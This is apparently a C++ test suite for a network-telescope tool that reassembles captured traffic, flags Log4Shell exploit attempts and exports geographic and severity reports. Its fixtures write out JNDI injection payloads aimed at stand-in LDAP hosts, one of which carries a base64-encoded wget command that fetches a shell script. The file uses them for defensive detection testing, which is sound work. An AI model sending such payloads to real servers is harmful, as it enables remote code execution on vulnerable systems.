#include <catch2/catch_amalgamated.hpp>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "support/fixtures.hpp"
#include "telesift/pipeline.hpp"

using namespace telesift;
namespace fs = std::filesystem;

namespace {

fs::path fresh_dir(const std::string& name) {
    fs::path dir = fs::temp_directory_path() / ("telesift_test_" + name);
    fs::remove_all(dir);
    fs::create_directories(dir);
    return dir;
}

std::string slurp(const fs::path& path) {
    std::ifstream in(path, std::ios::binary);
    REQUIRE(in);
    std::ostringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

NsTime ts_of(int y, unsigned m, unsigned d, int second_of_day) {
    return (NsTime(make_day(y, m, d)) * secs_per_day + second_of_day) * ns_per_sec;
}

// Two-packet exploit conversation against the telescope address.
void add_connection(fixtures::PcapWriter& w, NsTime ts, const std::string& scanner,
                    std::uint16_t sport, const std::string& payload,
                    const std::string& dst = "203.0.113.10",
                    std::uint16_t dport = 8080) {
    w.add_tcp(ts, scanner, sport, dst, dport, tcpflag::syn, 1000, 0, "");
    w.add_tcp(ts + 1000000, dst, dport, scanner, sport,
              std::uint8_t(tcpflag::syn | tcpflag::ack), 5000, 1001, "");
    if (payload.empty()) return;
    // Split the payload into two out-of-order segments.
    std::size_t half = payload.size() / 2;
    w.add_tcp(ts + 3000000, scanner, sport, dst, dport, tcpflag::ack,
              1001 + std::uint32_t(half), 5001, payload.substr(half));
    w.add_tcp(ts + 4000000, scanner, sport, dst, dport, tcpflag::ack, 1001, 5001,
              payload.substr(0, half));
    // Retransmission of the first segment.
    w.add_tcp(ts + 5000000, scanner, sport, dst, dport, tcpflag::ack, 1001, 5001,
              payload.substr(0, half));
}

struct Fixture {
    fs::path dir;
    std::string capture;
    std::string geo;
};

// The run fixture: 3 exploit connections (two L4, one L1) and 2 benign.
Fixture make_fixture(const std::string& name) {
    Fixture fx;
    fx.dir = fresh_dir(name);
    fixtures::PcapWriter w;

    add_connection(w, ts_of(2021, 12, 11, 3600), "198.51.100.1", 40001,
                   "GET /?x=${jndi:ldap://192.0.2.50/a} HTTP/1.1");
    add_connection(w, ts_of(2021, 12, 12, 7200), "198.51.100.2", 40002,
                   "user-agent: %24%7Bjndi%3Aldap%3A%2F%2F192.0.2.51%2Fb%7D");
    add_connection(w, ts_of(2022, 3, 5, 600), "198.51.100.3", 40003,
                   "${jndi:ldap://192.0.2.52/Basic/Command/Base64/" +
                       fixtures::base64_encode("wget http://192.0.2.52/sh") + "}");
    add_connection(w, ts_of(2022, 3, 5, 1200), "198.51.100.4", 40004,
                   "GET /index.html HTTP/1.1");
    add_connection(w, ts_of(2022, 3, 6, 1800), "198.51.100.5", 40005, "");

    fx.capture = (fx.dir / "telescope.pcap").string();
    w.write(fx.capture);

    auto ip = [](const char* s) { return *parse_ipv4(s); };
    std::ofstream geo(fx.dir / "geo.csv");
    geo << ip("198.51.100.0") << ',' << ip("198.51.100.255") << ",US,64501\n";
    geo << ip("192.0.2.0") << ',' << ip("192.0.2.255") << ",DE,64502\n";
    geo << ip("203.0.113.0") << ',' << ip("203.0.113.255") << ",IN,64503\n";
    geo.close();
    fx.geo = (fx.dir / "geo.csv").string();
    return fx;
}

RunConfig config_for(const Fixture& fx, const std::string& out_name) {
    RunConfig cfg;
    cfg.inputs = {fx.capture};
    cfg.geo_db_path = fx.geo;
    cfg.out_dir = (fx.dir / out_name).string();
    return cfg;
}

int run_cli(const std::string& args) {
    std::string cmd = std::string(TELESIFT_CLI_PATH) + " " + args;
    int status = std::system(cmd.c_str());
    REQUIRE(status != -1);
    return WEXITSTATUS(status);
}

}  // namespace

TEST_CASE("detection records survive a JSONL round trip") {
    DetectionRecord rec;
    rec.ts_ns = 1639180800123456789LL;
    rec.src_ip = "198.51.100.1";
    rec.src_port = 40001;
    rec.dst_ip = "203.0.113.10";
    rec.dst_port = 8080;
    rec.src_country = "US";
    rec.src_asn = 64501;
    rec.expressions.push_back({"ldap", "ldap://192.0.2.50/a", "${jndi:ldap://192.0.2.50/a}"});
    DetectionRecord::Endpoint ep;
    ep.ep = {"192.0.2.50", true, 389, "a", "ldap"};
    ep.host_country = "DE";
    ep.host_asn = 64502;
    rec.endpoints.push_back(ep);
    rec.obfuscated = true;
    rec.severity = Severity::L4;
    rec.printable_ratio = 0.9921875;
    rec.transform_count = 2;
    rec.byte_length = 128;
    rec.matched_candidate = 1;

    std::ostringstream out;
    write_detections(out, {rec});
    std::istringstream in(out.str());
    auto file = read_detections(in);
    REQUIRE(file.records.size() == 1);
    const auto& got = file.records[0];
    CHECK(got.ts_ns == rec.ts_ns);
    CHECK(got.src_ip == rec.src_ip);
    CHECK(got.expressions == rec.expressions);
    CHECK(got.endpoints[0].ep == rec.endpoints[0].ep);
    CHECK(got.endpoints[0].host_country == "DE");
    CHECK(got.severity == Severity::L4);
    CHECK(got.printable_ratio == rec.printable_ratio);
}

TEST_CASE("malformed record lines are skipped with a count") {
    std::istringstream in("not json\n{\"also\": \"wrong\"}\n");
    auto file = read_detections(in);
    CHECK(file.records.empty());
    CHECK(file.skipped_lines == 2);
}

TEST_CASE("run_pipeline matches the fixture ledger") {
    auto fx = make_fixture("run");
    auto cfg = config_for(fx, "out");
    auto summary = run_pipeline(cfg);

    CHECK(summary.packets_read == 4 * 5 + 2);  // 4 five-packet convs + one handshake
    CHECK(summary.packets_skipped == 0);
    CHECK(summary.connections == 5);
    CHECK(summary.payload_connections == 4);
    CHECK(summary.detections == 3);
    CHECK(summary.severity_histogram.at("L4") == 2);
    CHECK(summary.severity_histogram.at("L1") == 1);
    CHECK(summary.severity_histogram.size() == 2);
    CHECK(summary.tier1_detections == 3);

    auto file = read_detections_file((fs::path(cfg.out_dir) / "detections.jsonl").string());
    REQUIRE(file.records.size() == 3);
    std::uint64_t histogram_total = 0;
    for (const auto& [level, count] : summary.severity_histogram)
        histogram_total += count;
    CHECK(histogram_total == summary.detections);

    // Geo enrichment flows through to records.
    for (const auto& rec : file.records) {
        CHECK(rec.src_country == "US");
        CHECK(rec.src_asn == 64501);
        REQUIRE_FALSE(rec.endpoints.empty());
        CHECK(rec.endpoints[0].host_country == "DE");
        CHECK(rec.endpoints[0].host_asn == 64502);
        CHECK(rec.dst_ip == "203.0.113.10");
    }

    // Reassembly handled the split/retransmitted exploit payloads.
    CHECK(file.records[0].expressions[0].normalized ==
          "${jndi:ldap://192.0.2.50/a}");
    CHECK(file.records[1].severity == Severity::L4);
    CHECK(file.records[2].severity == Severity::L1);
}

TEST_CASE("run_pipeline is deterministic across runs") {
    auto fx = make_fixture("determinism");
    auto cfg_a = config_for(fx, "out_a");
    auto cfg_b = config_for(fx, "out_b");
    run_pipeline(cfg_a);
    run_pipeline(cfg_b);
    CHECK(slurp(fs::path(cfg_a.out_dir) / "detections.jsonl") ==
          slurp(fs::path(cfg_b.out_dir) / "detections.jsonl"));
}

TEST_CASE("run_pipeline on an empty capture reports zero counts") {
    auto dir = fresh_dir("empty");
    fixtures::PcapWriter w;
    w.write((dir / "empty.pcap").string());
    RunConfig cfg;
    cfg.inputs = {(dir / "empty.pcap").string()};
    cfg.out_dir = (dir / "out").string();
    auto summary = run_pipeline(cfg);
    CHECK(summary.packets_read == 0);
    CHECK(summary.connections == 0);
    CHECK(summary.detections == 0);
    CHECK(fs::exists(fs::path(cfg.out_dir) / "detections.jsonl"));
}

TEST_CASE("run_pipeline fails loudly on config errors") {
    auto fx = make_fixture("badcfg");
    auto cfg = config_for(fx, "out");
    cfg.geo_db_path = (fx.dir / "missing.csv").string();
    CHECK_THROWS_AS(run_pipeline(cfg), std::runtime_error);

    RunConfig no_inputs;
    no_inputs.out_dir = "x";
    CHECK_THROWS_AS(run_pipeline(no_inputs), std::invalid_argument);
}

TEST_CASE("report exports cover the figure analogs") {
    auto fx = make_fixture("report");
    auto cfg = config_for(fx, "out");
    run_pipeline(cfg);
    auto file = read_detections_file((fs::path(cfg.out_dir) / "detections.jsonl").string());

    auto report_dir = fx.dir / "report";
    export_shares(file.records, report_dir, 0);
    export_infra(file.records, report_dir, 0);
    export_monthly(monthly_matrix(file.records, 0), report_dir, 79.0);

    for (const char* name :
         {"scanner_country_shares.csv", "host_country_shares.csv",
          "dst_port_shares.csv", "scheme_shares.csv", "scanner_asn_shares.csv",
          "host_timelines.csv", "lifetime_volume_matrix.csv", "reuse_by_lifetime.csv",
          "cumulative_scanner_ips.csv", "cumulative_scanner_asns.csv",
          "cumulative_host_ips.csv", "cumulative_host_asns.csv",
          "scanner_host_matrix.csv", "scanner_dst_matrix.csv", "daily_incidence.csv",
          "severity_histogram.csv",
          "monthly_counts.csv", "monthly_distribution.csv", "year_trend.csv"})
        CHECK(fs::exists(report_dir / name));

    auto shares = slurp(report_dir / "scanner_country_shares.csv");
    CHECK(shares.find("2021,US,2,100") != std::string::npos);
    auto incidence = slurp(report_dir / "daily_incidence.csv");
    CHECK(incidence.find("2021-12-11,1") != std::string::npos);
    CHECK(incidence.find("2021-12-12,1") != std::string::npos);
    CHECK(incidence.find("2022-03-05,1") != std::string::npos);
    auto hist = slurp(report_dir / "severity_histogram.csv");
    CHECK(hist.find("L1,1") != std::string::npos);
    CHECK(hist.find("L4,2") != std::string::npos);
}

TEST_CASE("decode_one produces a full ledger with a verdict") {
    auto report = decode_one("%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.1%2Fa%7D");
    REQUIRE(report.detection.has_value());
    CHECK(report.detection->severity == Severity::L4);
    CHECK(report.decoded.candidates.size() >= 2);

    auto benign = decode_one("GET / HTTP/1.1");
    CHECK_FALSE(benign.detection.has_value());
}

TEST_CASE("cli: run, decode, and report subcommands work end to end") {
    auto fx = make_fixture("cli");
    auto out = (fx.dir / "cli_out").string();
    auto dump = (fx.dir / "streams.bin").string();
    CHECK(run_cli("run --input " + fx.capture + " --geo-db " + fx.geo + " --out " +
                  out + " --dump-streams " + dump + " > /dev/null") == 0);
    CHECK(fs::exists(fs::path(out) / "detections.jsonl"));
    CHECK(fs::exists(fs::path(out) / "summary.json"));
    {
        std::ifstream in(dump, std::ios::binary);
        REQUIRE(in);
        CHECK(load_streams(in).size() == 5);
    }

    std::ofstream payload(fx.dir / "payload.txt", std::ios::binary);
    payload << "${jndi:ldap://10.0.0.1/a}";
    payload.close();
    CHECK(run_cli("decode --input " + (fx.dir / "payload.txt").string() +
                  " > " + (fx.dir / "ledger.txt").string()) == 0);
    auto ledger = slurp(fx.dir / "ledger.txt");
    CHECK(ledger.find("verdict: detected severity=L4") != std::string::npos);

    CHECK(run_cli("report shares --input " + out + "/detections.jsonl --out " +
                  (fx.dir / "rep").string()) == 0);
    CHECK(fs::exists(fx.dir / "rep" / "scanner_country_shares.csv"));

    std::ofstream slopes(fx.dir / "slopes.csv");
    slopes << "t,value\n1,9.1\n2,16.9\n3,24.5\n4,31.1\n";
    slopes.close();
    CHECK(run_cli("report fit --input " + (fx.dir / "slopes.csv").string() +
                  " --out " + (fx.dir / "fit").string() +
                  " --predict-t 6 --phat1 15.3 > /dev/null") == 0);
    CHECK(fs::exists(fx.dir / "fit" / "fit_report.csv"));
    CHECK(fs::exists(fx.dir / "fit" / "fit_band.csv"));
    CHECK(fs::exists(fx.dir / "fit" / "threshold_prediction.csv"));

    std::ofstream series(fx.dir / "series.csv");
    series << "a,b\n1,1\n2,2\n3,3\n4,4\n";
    series.close();
    CHECK(run_cli("report correlate --input " + (fx.dir / "series.csv").string() +
                  " --out " + (fx.dir / "corr").string() + " > /dev/null") == 0);
    auto corr = slurp(fx.dir / "corr" / "correlation.csv");
    CHECK(corr.find("1,") != std::string::npos);
}

TEST_CASE("cli: exit codes distinguish usage and data errors") {
    auto dir = fresh_dir("cli_errors");
    CHECK(run_cli("definitely-not-a-subcommand 2> /dev/null") == 1);
    CHECK(run_cli("run 2> /dev/null") == 1);  // missing required --input
    CHECK(run_cli("run --input " + (dir / "nope.pcap").string() + " --out " +
                  (dir / "out").string() + " 2> /dev/null") == 2);
    CHECK(run_cli("--help > /dev/null") == 0);
}
